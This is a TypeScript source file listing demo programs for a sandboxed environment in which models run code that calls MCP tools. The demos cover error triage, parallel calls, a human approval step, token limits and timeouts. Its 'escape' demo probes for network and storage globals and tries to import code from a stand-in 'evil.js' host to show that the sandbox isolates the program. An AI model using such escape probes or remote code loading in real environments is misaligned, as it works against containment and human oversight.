import { PYTHON_GROUPS } from "./python-programs.ts";
import type { DemoLanguage, ProgramGroup, ReadyProgram } from "./ready-program.ts";

const TYPESCRIPT_GROUPS: readonly ProgramGroup[] = [
  {
    title: "Start here",
    programs: [
      {
        id: "errors-by-service",
        title: "Errors by service",
        about:
          "Reads 10,000 rows in one call and returns five numbers. The megabytes stay in the sandbox; the model never sees them.",
        code: `// 10,000 rows come into the sandbox, five numbers go out.
const { errors } = await tools.errors.list_errors({ limit: 10_000 });

const open: Record<string, number> = {};
for (const { service, status } of errors) {
  if (status === "open") open[service] = (open[service] ?? 0) + 1;
}

console.log(\`\${errors.length} rows read\`);
const worst = Object.entries(open).sort((a, b) => b[1] - a[1]);
return Object.fromEntries(worst.slice(0, 5));
`,
      },
      {
        id: "analyze-in-parallel",
        title: "Analyze the top errors in parallel",
        about:
          "Eight calls leave at the same time. The usual way takes eight turns of the model, each with all the text so far.",
        code: `const { errors } = await tools.errors.list_errors({
  severity: "fatal",
  status: "open",
  limit: 2_000,
});
const top = errors
  .toSorted((a, b) => b.usersAffected - a.usersAffected)
  .slice(0, 8);

// Eight calls at once.
const analyses = await Promise.all(
  top.map(({ id }) => tools.errors.analyze_error({ id })),
);

const causes = Map.groupBy(analyses, ({ probableCause }) => probableCause);
return [...causes].map(([cause, group]) => ({
  cause,
  errors: group.map(({ id }) => id),
  fix: group[0].suggestedStrategy,
}));
`,
      },
      {
        id: "fix-what-is-safe",
        title: "Fix what is safe",
        about:
          "Analyzes, tries each fix as a dry run and applies only what is safe: decisions in code, without a model in the loop.",
        code: `const SAFE = ["retry_with_backoff", "patch_input"];
const [mild, severe] = await Promise.all(
  ["warning", "fatal"].map((severity) =>
    tools.errors.list_errors({ severity, status: "open", limit: 3 }),
  ),
);

const report = { fixed: [] as string[], leftForPeople: [] as string[] };
for (const { id, code } of [...mild.errors, ...severe.errors]) {
  const analysis = await tools.errors.analyze_error({ id });
  const strategy = analysis.suggestedStrategy;
  const trial = await tools.errors.fix_error({ id, strategy, dryRun: true });
  console.log(\`\${id} \${code}: \${trial.note}\`);
  if (SAFE.includes(strategy)) {
    await tools.errors.fix_error({ id, strategy });
    report.fixed.push(id);
  } else {
    report.leftForPeople.push(id);
  }
}
return report;
`,
      },
    ],
  },
  {
    title: "What programs can do",
    programs: [
      {
        id: "several-servers",
        title: "Several servers in one program",
        about: "Data of one MCP server goes straight into the tools of another, and of the page itself.",
        code: `const { errors, total } = await tools.errors.list_errors({
  status: "open",
  limit: 100,
});
const [first, second] = errors.map((error) => error.usersAffected);

// One server's data feeds another's tools, and the page tells the time.
const [sum, echo, now] = await Promise.all([
  tools.everything.get_sum({ a: first, b: second }),
  tools.everything.echo({ message: \`\${total} errors are open\` }),
  tools.page.now({}),
]);
return { sum, echo, asOf: now.iso };
`,
      },
      {
        id: "find-and-call",
        title: "Find a tool, then call it",
        about:
          "The model does not know the catalog. A program searches it, reads one signature, and calls what it found.",
        code: `const hits = await tools.search("add two numbers", 3);
console.log(hits);

const [ref] = hits.split("(");
console.log(await tools.describe(ref));

const [server, tool] = ref.split(".");
return await tools[server][tool]({ a: 20, b: 22 });
`,
      },
      {
        id: "images-as-bytes",
        title: "Images as bytes",
        about:
          "Binary answers arrive as bytes. This one reads the size of a PNG from its header and returns four facts, not the image.",
        code: `const blocks = await tools.everything.get_tiny_image({});
const { mimeType, bytes } = blocks.find(({ type }) => type === "image");

// Width and height stand in the PNG's first chunk, big-endian.
const header = new DataView(bytes.buffer, bytes.byteOffset);
return {
  mimeType,
  bytes: bytes.length,
  width: header.getUint32(16),
  height: header.getUint32(20),
};
`,
      },
      {
        id: "draw-on-the-page",
        title: "Draw on the page",
        about:
          "Tools may live in the page: this program hands it a chart and a notice. Pages expose what they like, and nothing else is reachable.",
        code: `const { errors } = await tools.errors.list_errors({
  severity: "fatal",
  limit: 10_000,
});
const groups = Map.groupBy(errors, ({ code }) => code);
const bars = [...groups]
  .map(([label, group]) => ({ label, value: group.length }))
  .sort((a, b) => b.value - a.value)
  .slice(0, 5);

await tools.page.chart({ title: "Fatal errors by code", bars });
await tools.page.notify({ message: \`\${errors.length} fatal errors charted\` });
return bars.length;
`,
      },
      {
        id: "state-between-runs",
        title: "State between runs",
        about: "Run it twice: each run gets a fresh sandbox, and what a session keeps in context survives.",
        code: `const runs = ((await context.get("runs")) ?? 0) + 1;
const before = await context.get("lastRun");
const { iso } = await tools.page.now({});

await context.set("runs", runs);
await context.set("lastRun", iso);
return { runs, before: before ?? "This is the first run. Run it again." };
`,
      },
      {
        id: "slow-tool",
        title: "A slow tool, with progress",
        about: "The tool takes six seconds and reports its steps. Cancel it: the tool call is cancelled too.",
        code: `// Press Cancel while it runs, or wait for it.
console.log("Starting something slow");
const answer = await tools.everything.trigger_long_running_operation({
  duration: 6,
  steps: 12,
});
return answer;
`,
      },
    ],
  },
  {
    title: "Too large for a model",
    programs: [
      {
        id: "stays-behind",
        title: "A picture and many rows stay behind",
        about:
          "What is too large for a model stays in the session and comes back as a handle: you can open it here, a later program with context.open.",
        code: `const blocks = await tools.everything.get_tiny_image({});
const picture = blocks.find(({ type }) => type === "image");
const { errors } = await tools.errors.list_errors({ limit: 500 });

await context.set("picture", picture.mimeType);
return { picture, errors };
`,
      },
    ],
  },
  {
    title: "Who decides",
    programs: [
      {
        id: "ask-first",
        title: "Ask a person first",
        about:
          "clear_notices says that it destroys something: the program is frozen until you decide. Reload the page before you do, and it goes on all the same.",
        code: `const { errors } = await tools.errors.list_errors({ severity: "fatal", limit: 3 });
const seen = new Map(errors.map(({ id, service }) => [id, service]));
await tools.page.notify({ message: \`\${seen.size} fatal errors\` });

// A person decides about this one.
let cleared = "You said no.";
try {
  ({ cleared } = await tools.page.clear_notices({}));
} catch (error) {
  console.warn(error.message);
}
return { cleared, seen };
`,
      },
    ],
  },
  {
    title: "When things go wrong",
    programs: [
      {
        id: "too-much",
        title: "Too much for the model",
        about:
          "Returns 200 whole rows. The value is cut to the token budget, stays valid JSON, and says what is missing.",
        code: `const { errors } = await tools.errors.list_errors({ limit: 200 });
return errors;
`,
      },
      {
        id: "mistake",
        title: "A program with a mistake",
        about:
          "The rows have no field called count. The error names line and column of the program as it was written, types included.",
        code: `const { errors } = await tools.errors.list_errors({ limit: 50 });

interface Row {
  id: string;
  count: { today: number };
}
const today = (row: Row) => row.count.today;

return Math.max(...errors.map(today));
`,
      },
      {
        id: "unknown-tool",
        title: "A tool that does not exist",
        about:
          "A model misremembers names. The error proposes the nearest tools, so that it can repair its program in one go.",
        code: `const rows = await tools.errors.list_error({ limit: 5 });
return rows.length;
`,
      },
      {
        id: "endless-loop",
        title: "An endless loop",
        about:
          "Stopped after one second with code 408. Meanwhile the page keeps answering: try to search the catalog.",
        timeoutMs: 1_000,
        code: `console.log("Round and round");
let turns = 0;
while (true) turns += 1;
`,
      },
      {
        id: "escape",
        title: "An attempt to get out",
        about:
          "Looks for the network, the page and storage. There is nothing to find: each program runs in a VM of its own, in a worker, in an opaque frame.",
        code: `const wanted = [
  ...["fetch", "XMLHttpRequest", "WebSocket", "importScripts"],
  ...["document", "window", "localStorage", "indexedDB", "process"],
];
const found = wanted.filter((name) => name in globalThis);

let imported = "nothing";
try {
  imported = typeof (await import("https://example.com/evil.js"));
} catch (error) {
  console.warn(\`import: \${error.message}\`);
}
return { found, imported };
`,
      },
    ],
  },
];

/** The ready programs of each language, in the order in which a newcomer should meet them. */
export const PROGRAM_GROUPS: Readonly<Record<DemoLanguage, readonly ProgramGroup[]>> = {
  typescript: TYPESCRIPT_GROUPS,
  python: PYTHON_GROUPS,
};

/** All ready programs. */
export const PROGRAMS: readonly ReadyProgram[] = Object.values(PROGRAM_GROUPS).flatMap((groups) =>
  groups.flatMap(({ programs }) => programs),
);
